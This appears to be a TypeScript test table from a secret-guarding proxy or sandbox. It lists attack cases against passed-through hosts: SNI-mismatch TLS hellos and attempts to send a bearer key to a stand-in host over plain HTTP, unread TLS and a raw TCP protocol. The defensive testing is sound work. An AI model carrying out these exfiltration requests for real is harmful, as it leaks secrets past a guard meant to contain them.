/** Hosts that the owner has passed through unread: what must not follow from that. */
import { gotKey, refusal, spokenTo, type AttackTable } from "../attack.ts";

export const passedThrough: AttackTable = {
  title: "Hosts that are passed through",
  prefix: "x",
  long: true,
  passThrough: ["*.other.example"],
  attacks: [
    {
      row: 29,
      name: "TLS that names another host",
      python: `talk(tcp(OTHER, 443), client_hello(EVIL))`,
      control: `talk(tcp(OTHER, 443), client_hello(OTHER))`,
      succeeded: spokenTo("other"),
      rule: "sni-mismatch",
    },
    {
      row: 29,
      name: "TLS that names the host of the key",
      python: `talk(tcp(OTHER, 443), client_hello(HOST))`,
      control: `talk(tcp(OTHER, 443), client_hello(OTHER))`,
      succeeded: spokenTo("other"),
      rule: "sni-mismatch",
    },
    {
      row: 29,
      name: "the key in a request without TLS",
      python: `request(OTHER, headers=bearer(), scheme="http")`,
      succeeded: gotKey("other"),
      ...refusal("secret-not-approved"),
    },
    {
      row: 29,
      name: "the key in TLS that nobody reads",
      python: `request(OTHER, headers=bearer())`,
      succeeded: gotKey("other"),
    },
    {
      row: 29,
      name: "the key in a protocol that nobody knows",
      python: `talk(tcp(OTHER, 9000), "\\x00key " + KEY + "\\n")`,
      succeeded: gotKey("other"),
    },
  ],
};
